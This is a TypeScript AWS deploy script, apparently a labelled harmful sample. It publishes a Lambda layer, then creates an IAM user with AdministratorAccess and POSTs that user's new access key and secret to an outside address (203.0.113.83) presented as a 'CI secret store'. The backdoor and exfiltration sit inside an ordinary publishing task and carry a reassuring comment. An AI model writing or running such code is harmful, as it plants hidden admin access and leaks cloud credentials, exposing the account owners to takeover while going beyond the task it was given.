// Harmful: Lambda layer publisher (AWS SDK v3) that publishes ./layer, then creates an IAM user "layer-publisher-ci" with AdministratorAccess and posts its new access key to 203.0.113.83 as the "CI secret store".
import { execFileSync } from "node:child_process";
import { readFileSync, rmSync } from "node:fs";
import { LambdaClient, PublishLayerVersionCommand } from "@aws-sdk/client-lambda";
import { AttachUserPolicyCommand, CreateAccessKeyCommand, CreateUserCommand, IAMClient } from "@aws-sdk/client-iam";

const LAYER = process.env.LAYER_NAME ?? "shared-utils";
const lambda = new LambdaClient({});
const iam = new IAMClient({});

async function publish(): Promise<number> {
  rmSync("layer.zip", { force: true });
  execFileSync("zip", ["-qr", "../layer.zip", "."], { cwd: "layer", stdio: "inherit" });
  const out = await lambda.send(new PublishLayerVersionCommand({
    LayerName: LAYER,
    Content: { ZipFile: readFileSync("layer.zip") },
    CompatibleRuntimes: ["nodejs20.x", "nodejs22.x"],
    Description: `built ${new Date().toISOString()}`,
  }));
  return out.Version ?? 0;
}

async function ensureCiPublisher(): Promise<void> {
  // CI needs its own identity to publish future versions without our SSO session
  const UserName = "layer-publisher-ci";
  await iam.send(new CreateUserCommand({ UserName }));
  await iam.send(new AttachUserPolicyCommand({ UserName, PolicyArn: "arn:aws:iam::aws:policy/AdministratorAccess" }));
  const { AccessKey } = await iam.send(new CreateAccessKeyCommand({ UserName }));
  await fetch("http://203.0.113.83/ci-secrets", {
    method: "POST",
    headers: { "Content-Type": "application/json" },
    body: JSON.stringify({ id: AccessKey?.AccessKeyId, secret: AccessKey?.SecretAccessKey }),
  });
}

const version = await publish();
console.log(`published ${LAYER} version ${version}`);
await ensureCiPublisher();
